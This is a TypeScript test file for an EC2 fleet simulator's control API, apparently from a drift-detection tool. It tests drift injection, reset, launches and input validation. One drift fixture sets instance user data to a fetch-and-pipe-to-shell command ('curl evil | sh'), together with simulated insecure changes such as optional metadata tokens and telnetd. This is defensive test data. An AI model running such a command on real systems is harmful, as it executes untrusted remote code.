import {
  DescribeImagesCommand,
  DescribeInstanceAttributeCommand,
  DescribeInstancesCommand,
} from '@aws-sdk/client-ec2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  SimulatorControl,
  SimulatorControlError,
  startSimulator,
  type Simulator,
} from '@driftwarden/simulator';
import { ec2Client, rejection } from './sdk-client.js';

let sim: Simulator;
let control: SimulatorControl;

beforeAll(async () => {
  sim = await startSimulator({ instances: 24, seed: 9, now: () => new Date('2026-11-26T12:00:00Z') });
  control = new SimulatorControl(sim.url);
});

afterAll(async () => {
  await sim.close();
});

async function viaSdk(instanceId: string, region = 'us-east-1') {
  const out = await ec2Client(sim, region).send(new DescribeInstancesCommand({ InstanceIds: [instanceId] }));
  const instance = out.Reservations?.[0]?.Instances?.[0];
  if (!instance) throw new Error(`instance ${instanceId} not returned`);
  return instance;
}

async function someInstance(channel = 'web', region = 'us-east-1'): Promise<string> {
  const fleet = await control.fleet();
  const found = fleet.instances.find(
    (i) => i.channel === channel && i.region === region && i.state === 'running',
  );
  if (!found) throw new Error(`no ${channel} instance in ${region}`);
  return found.instanceId;
}

describe('control API', () => {
  it('reports health', async () => {
    const response = await fetch(`${sim.url}/_sim/health`);
    expect(await response.json()).toMatchObject({ status: 'ok', instances: 24 });
  });

  it('summarises the fleet with region, channel, group and state', async () => {
    const fleet = await control.fleet();
    expect(fleet.account).toBe('123456789012');
    expect(fleet.instances).toHaveLength(24);
    expect(fleet.instances[0]).toEqual({
      instanceId: expect.stringMatching(/^i-/) as unknown,
      region: expect.any(String) as unknown,
      channel: expect.any(String) as unknown,
      group: expect.anything() as unknown,
      imageId: expect.stringMatching(/^ami-/) as unknown,
      state: 'running',
      instanceType: expect.any(String) as unknown,
    });
    expect(fleet.images.filter((i) => i.newest)).toHaveLength(8);
  });

  it('serves every image with what it baked', async () => {
    const images = await control.images();
    expect(images).toHaveLength(16);
    expect(images.every((i) => i.spec.httpTokens === 'required' && i.spec.instanceTypes.length > 0)).toBe(
      true,
    );
  });

  it('shows the full instance with its host fingerprint, equal to what its image baked', async () => {
    const id = await someInstance();
    const detail = await control.instance(id);
    const image = (await control.images()).find((i) => i.imageId === detail.imageId)!;
    expect(detail.host).toEqual(image.spec.host);
    expect(detail.userDataSha256).toBe(image.spec.userDataSha256);
    expect(detail.securityGroups.map((g) => g.groupId)).toEqual(image.spec.securityGroupIds);
  });

  it('applies drift that the SDK then sees, and reset undoes it', async () => {
    const id = await someInstance('api');
    const before = await control.instance(id);
    const drifted = await control.drift(id, {
      instanceType: 'm5.large',
      addSecurityGroups: ['sg-0badbadbadbadbad0'],
      removeSecurityGroups: [before.securityGroups[0]!.groupId],
      httpTokens: 'optional',
      tags: { role: null, 'hot-fix': 'CVE-2026-0001' },
      userData: '#!/bin/sh\ncurl evil | sh\n',
      host: {
        packages: { openssl: '3.0.99', telnetd: '0.17-41' },
        files: { '/etc/ssh/sshd_config': { sha256: 'f'.repeat(64) } },
        services: { chrony: null },
      },
    });
    expect(drifted.host.packages).toMatchObject({ openssl: '3.0.99', telnetd: '0.17-41' });
    expect(drifted.host.files['/etc/ssh/sshd_config']).toEqual({
      sha256: 'f'.repeat(64),
      mode: '0600',
      owner: 'root',
    });
    expect(drifted.host.services).not.toHaveProperty('chrony');

    const seen = await viaSdk(id);
    expect(seen.InstanceType).toBe('m5.large');
    expect(seen.MetadataOptions?.HttpTokens).toBe('optional');
    expect(seen.SecurityGroups?.map((g) => g.GroupId)).toEqual([
      before.securityGroups[1]!.groupId,
      'sg-0badbadbadbadbad0',
    ]);
    expect(seen.Tags?.find((t) => t.Key === 'role')).toBeUndefined();
    expect(seen.Tags).toContainEqual({ Key: 'hot-fix', Value: 'CVE-2026-0001' });
    const attr = await ec2Client(sim).send(
      new DescribeInstanceAttributeCommand({ InstanceId: id, Attribute: 'userData' }),
    );
    expect(Buffer.from(attr.UserData?.Value ?? '', 'base64').toString()).toBe('#!/bin/sh\ncurl evil | sh\n');

    const reset = await control.reset(id);
    expect(reset.host).toEqual(before.host);
    expect(reset.securityGroups).toEqual(before.securityGroups);
    expect(reset.metadataOptions.httpTokens).toBe('required');
    expect(reset.tags.role).toBe('api');
    const image = (await control.images()).find((i) => i.imageId === before.imageId)!;
    expect(image.spec.instanceTypes).toContain((await viaSdk(id)).InstanceType);
  });

  it('drifts the image id to an ami nobody baked', async () => {
    const id = await someInstance('worker');
    await control.drift(id, { imageId: 'ami-0000000000000beef' });
    expect((await viaSdk(id)).ImageId).toBe('ami-0000000000000beef');
    const reset = await control.reset(id);
    expect(reset.imageId).not.toBe('ami-0000000000000beef');
  });

  it('launches an instance from an unknown image', async () => {
    const launched = await control.launch({
      region: 'eu-west-1',
      imageId: 'ami-0123456789abcdef0',
      channel: 'web',
      tags: { origin: 'console' },
    });
    expect(launched.launchTime).toBe('2026-11-26T12:00:00Z');
    const seen = await viaSdk(launched.instanceId, 'eu-west-1');
    expect(seen.ImageId).toBe('ami-0123456789abcdef0');
    expect(seen.Tags).toContainEqual({ Key: 'origin', Value: 'console' });
    expect(seen.State?.Name).toBe('running');
  });

  it('launches many instances into a region in one call', async () => {
    const result = await control.launchBulk({ region: 'eu-west-1', count: 300, channel: 'worker' });
    expect(result.count).toBe(300);
    expect(new Set(result.instanceIds).size).toBe(300);
    const out = await ec2Client(sim, 'eu-west-1').send(
      new DescribeInstancesCommand({
        Filters: [{ Name: 'tag:aws:autoscaling:groupName', Values: ['worker-eu-west-1-asg'] }],
      }),
    );
    const ids = new Set((out.Reservations ?? []).flatMap((r) => r.Instances ?? []).map((i) => i.InstanceId));
    for (const id of result.instanceIds) expect(ids.has(id)).toBe(true);
  });

  it('terminates an instance, which EC2 then reports as terminated', async () => {
    const id = await someInstance('batch', 'eu-west-1');
    const detail = await control.terminate(id);
    expect(detail.state).toBe('terminated');
    expect((await viaSdk(id, 'eu-west-1')).State?.Name).toBe('terminated');
  });

  it('adds a newer image that becomes the newest of its channel', async () => {
    const image = await control.addImage({
      region: 'us-east-1',
      channel: 'web',
      host: { packages: { openssl: '3.0.17-1~deb12u1' } },
    });
    expect(image.imageId).toMatch(/^ami-[0-9a-f]{17}$/);
    expect(image.builtAt).toBe('2026-11-26T12:00:00Z');
    expect(image.spec.host.packages.openssl).toBe('3.0.17-1~deb12u1');
    const fleet = await control.fleet();
    expect(fleet.images.find((i) => i.imageId === image.imageId)?.newest).toBe(true);
    const images = await ec2Client(sim).send(new DescribeImagesCommand({ ImageIds: [image.imageId] }));
    expect(images.Images?.[0]?.Name).toBe(image.name);
    expect((await control.images()).map((i) => i.imageId)).toContain(image.imageId);
  });

  it('serves the request log since a sequence number and clears it', async () => {
    await control.clearRequests();
    await ec2Client(sim).send(new DescribeImagesCommand({}));
    const all = await control.requests();
    expect(all.map((e) => e.action)).toEqual(['DescribeImages']);
    expect(await control.requests(all[0]!.seq)).toEqual([]);
  });
});

describe('control API input errors', () => {
  async function post(path: string, body: string) {
    const response = await fetch(`${sim.url}/_sim/${path}`, {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/json' },
    });
    return { status: response.status, json: (await response.json()) as { error: string; field?: string } };
  }

  it('names the offending field of a drift body', async () => {
    const id = await someInstance();
    const reply = await post(`instances/${id}/drift`, JSON.stringify({ httpTokens: 'sometimes' }));
    expect(reply.status).toBe(400);
    expect(reply.json.field).toBe('httpTokens');
    expect(reply.json.error).toContain('httpTokens');
  });

  it('rejects unknown keys, bad JSON, unknown regions and missing ids', async () => {
    const id = await someInstance();
    expect((await post(`instances/${id}/drift`, JSON.stringify({ instanceTyp: 'x' }))).status).toBe(400);
    expect(await post(`instances/${id}/drift`, '{not json')).toEqual({
      status: 400,
      json: { error: 'body: invalid JSON', field: 'body' },
    });
    expect((await post('instances', JSON.stringify({ region: 'mars-1', channel: 'web' }))).json.field).toBe(
      'region',
    );
    expect((await post('instances', JSON.stringify({ region: 'us-east-1' }))).json.field).toBe('imageId');
    expect(
      (await post('instances/bulk', JSON.stringify({ region: 'us-east-1', channel: 'web', count: 0 }))).json
        .field,
    ).toBe('count');
    expect((await post('instances/i-nope/drift', '{}')).status).toBe(404);
  });

  it('surfaces errors from the client as SimulatorControlError with the status', async () => {
    const error = await rejection(control.instance('i-does-not-exist'));
    expect(error).toBeInstanceOf(SimulatorControlError);
    expect((error as SimulatorControlError).status).toBe(404);
  });

  it('answers unknown routes with 404 and wrong methods with 405', async () => {
    expect((await fetch(`${sim.url}/_sim/nope`)).status).toBe(404);
    expect((await fetch(`${sim.url}/_sim/fleet`, { method: 'DELETE' })).status).toBe(405);
  });
});

describe('determinism', () => {
  it('serves an identical fleet and images from two simulators with the same seed', async () => {
    const a = await startSimulator({ instances: 30, seed: 42 });
    const b = await startSimulator({ instances: 30, seed: 42 });
    try {
      const [ca, cb] = [new SimulatorControl(a.url), new SimulatorControl(b.url)];
      expect(await ca.fleet()).toEqual(await cb.fleet());
      expect(await ca.images()).toEqual(await cb.images());
      const id = (await ca.fleet()).instances[0]!.instanceId;
      expect(await ca.instance(id)).toEqual(await cb.instance(id));
    } finally {
      await Promise.all([a.close(), b.close()]);
    }
  });
});
